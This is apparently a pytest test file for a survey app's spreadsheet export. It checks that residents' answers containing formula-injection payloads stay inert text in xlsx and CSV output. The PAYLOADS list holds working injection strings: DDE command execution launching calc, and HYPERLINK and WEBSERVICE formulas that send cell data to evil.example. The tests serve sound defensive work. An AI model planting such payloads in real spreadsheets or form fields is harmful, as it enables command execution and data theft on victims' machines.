"""Formula injection: what residents typed never runs as a formula in Excel or LibreOffice."""

import csv

import openpyxl
import pytest

from surveys.exports.build import write_export
from surveys.exports.options import ExportOptions

from .conftest import answer, full_answers

pytestmark = pytest.mark.django_db

# Real payloads from formula-injection write-ups: command execution through DDE, data
# exfiltration through HYPERLINK/WEBSERVICE, and each dangerous first character.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("http://evil.example/")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_stay_text_in_xlsx(export_survey, tmp_path, payload):
    answer(export_survey, full_answers(story=payload, **{"called-other": payload}))
    path = tmp_path / "out.xlsx"
    write_export(export_survey, ExportOptions(), path)
    sheet = openpyxl.load_workbook(path)["Responses"]
    header = [cell.value for cell in sheet[1]]
    for name in ("story", "called/other_text"):
        cell = sheet.cell(row=2, column=header.index(name) + 1)
        assert cell.data_type == "s", name  # a text cell, not a formula ("f")
        assert cell.value == payload.strip()  # as stored: the form trims whitespace
        assert cell.quotePrefix, name  # editing the cell keeps it text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_neutralised_in_csv(export_survey, tmp_path, payload):
    answer(export_survey, full_answers(story=payload))
    path = tmp_path / "out.csv"
    write_export(export_survey, ExportOptions(format="csv"), path)
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    cell = rows[1][rows[0].index("story")]
    assert cell == "'" + payload.strip()
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_harmless_text_is_left_alone(export_survey, tmp_path):
    answer(export_survey, full_answers(story="Fine, thanks = good", nickname="a-b"))
    path = tmp_path / "out.csv"
    write_export(export_survey, ExportOptions(format="csv"), path)
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["story"] == "Fine, thanks = good" and row["nickname"] == "a-b"
    xlsx = tmp_path / "out.xlsx"
    write_export(export_survey, ExportOptions(), xlsx)
    sheet = openpyxl.load_workbook(xlsx)["Responses"]
    header = [cell.value for cell in sheet[1]]
    assert not sheet.cell(row=2, column=header.index("story") + 1).quotePrefix


@pytest.mark.parametrize("payload", ["\t=1+1", "\r=1+1", "=1+1", "@A1", "-1+1"])
def test_the_writers_neutralise_every_dangerous_start(tmp_path, payload):
    """Whatever reaches a writer (the form trims tabs, an import might not)."""
    from surveys.exports.writers import Sheet, write_csv, write_xlsx

    write_xlsx(tmp_path / "w.xlsx", [Sheet("S", ["text"], [[payload]])])
    cell = openpyxl.load_workbook(tmp_path / "w.xlsx")["S"]["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    # XML keeps a carriage return as the escape _x000D_, which Excel reads back as one.
    assert cell.value == payload.replace("\r", "_x000D_")
    write_csv(tmp_path / "w.csv", ["text"], [[payload]])
    with (tmp_path / "w.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file))[1] == ["'" + payload]
